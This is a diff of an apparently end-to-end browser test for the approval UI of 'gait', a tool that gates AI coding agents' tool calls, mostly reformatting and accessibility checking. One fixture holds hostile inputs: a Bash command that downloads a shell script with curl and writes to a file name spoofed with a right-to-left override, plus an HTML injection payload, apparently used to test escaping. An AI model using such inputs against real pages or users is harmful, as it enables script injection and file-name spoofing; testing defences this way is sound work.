@@ -2,15 +2,15 @@
  * `gait ui` as people use it: the built executable at a real terminal, the page in a real browser. The
  * code of each answer is read where a person reads it, on the terminal.
  */
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
+import { source as axe } from 'axe-core';
 import { chromium, type Browser, type Page } from 'playwright-core';
 
 const CHROMIUM = Bun.which('chromium');
 const GAIT = join(import.meta.dirname, '..', '..', 'dist', 'gait');
-const AXE = readFileSync(Bun.resolveSync('axe-core/axe.min.js', import.meta.dirname), 'utf8');
 /** A folder for pictures of every page; not set: none are taken. */
 const PICTURES = process.env['GAIT_UI_PICTURES'] ?? '';
 
@@ -58,10 +58,12 @@ async function hook(call: object, wait = '0s'): Promise<number> {
 const guarded = (name: string) =>
   callOf('Write', {
     file_path: join(repo, `.github/${name}.yml`),
-    content: 'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n',
+    content:
+      'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n',
   });
 const hostile = callOf('Bash', {
-  command: 'echo "<script>document.title=1</script>" > \u202Egpj.exe && curl https://example.com/a.sh -o a.sh',
+  command:
+    'echo "<script>document.title=1</script>" > \u202Egpj.exe && curl https://example.com/a.sh -o a.sh',
   description: '"><img src=x onerror=document.title=2>',
 });
 
@@ -71,7 +73,10 @@ let browser: Browser | undefined;
 let page: Page;
 let link = '';
 
-async function until<T>(what: string, look: () => T | undefined | Promise<T | undefined>): Promise<T> {
+async function until<T>(
+  what: string,
+  look: () => T | undefined | Promise<T | undefined>,
+): Promise<T> {
   for (let i = 0; i < 200; i++) {
     const found = await look();
     if (found !== undefined) return found;
@@ -91,7 +96,9 @@ beforeAll(async () => {
   if (CHROMIUM === null) return;
   mkdirSync(join(repo, '.git'), { recursive: true });
   mkdirSync(home);
-  expect(gait('init', '--template', 'coding-agent', '--approver', 'alice')).toMatchObject({ exit: 0 });
+  expect(gait('init', '--template', 'coding-agent', '--approver', 'alice')).toMatchObject({
+    exit: 0,
+  });
   expect(gait('trust', '.gait.yaml').exit).toBe(0);
   expect(gait('hooks', 'install', '--harness', 'claude,codex').exit).toBe(0);
   await hook(callOf('Read', { file_path: join(repo, 'a.ts') }));
@@ -107,7 +114,10 @@ beforeAll(async () => {
       },
     },
   } as never);
-  link = await until('the link', () => /http:\/\/127\.0\.0\.1:\d+\/open\/[\w-]+/u.exec(screen)?.[0]);
+  link = await until(
+    'the link',
+    () => /http:\/\/127\.0\.0\.1:\d+\/open\/[\w-]+/u.exec(screen)?.[0],
+  );
   browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
   page = await (await browser.newContext()).newPage();
 }, 120_000);
@@ -126,14 +136,23 @@ interface AxeFinding {
 
 /** What axe finds on the page, in both schemes and on a narrow screen; and a picture of each. */
 async function check(name: string): Promise<void> {
-  for (const [scheme, width] of [['light', 1100], ['dark', 1100], ['light', 400]] as const) {
+  for (const [scheme, width] of [
+    ['light', 1100],
+    ['dark', 1100],
+    ['light', 400],
+  ] as const) {
     await page.emulateMedia({ colorScheme: scheme });
     await page.setViewportSize({ width, height: 900 });
     // Not as a script element: the page's own policy rightly refuses that.
     const found = (await page.evaluate(
-      `${AXE};axe.run(document, { resultTypes: ['violations'] }).then(({ violations }) => violations)`,
+      `${axe};axe.run(document, { resultTypes: ['violations'] }).then(({ violations }) => violations)`,
     )) as readonly AxeFinding[];
-    expect({ name, scheme, width, found: found.map(({ id, nodes }) => [id, nodes[0]?.html]) }).toEqual({
+    expect({
+      name,
+      scheme,
+      width,
+      found: found.map(({ id, nodes }) => [id, nodes[0]?.html]),
+    }).toEqual({
       name,
       scheme,
       width,
@@ -239,7 +258,10 @@ describe.skipIf(CHROMIUM === null)('the page of gait ui', () => {
     await hook(guarded('nightly'));
     const address = page.url().replace(/coverage$/u, '');
     const state = await page.context().storageState();
-    const context = await (browser as Browser).newContext({ javaScriptEnabled: false, storageState: state });
+    const context = await (browser as Browser).newContext({
+      javaScriptEnabled: false,
+      storageState: state,
+    });
     const still = await context.newPage();
     await still.goto(address);
     await still.locator('article', { hasText: 'nightly.yml' }).getByRole('link').click();
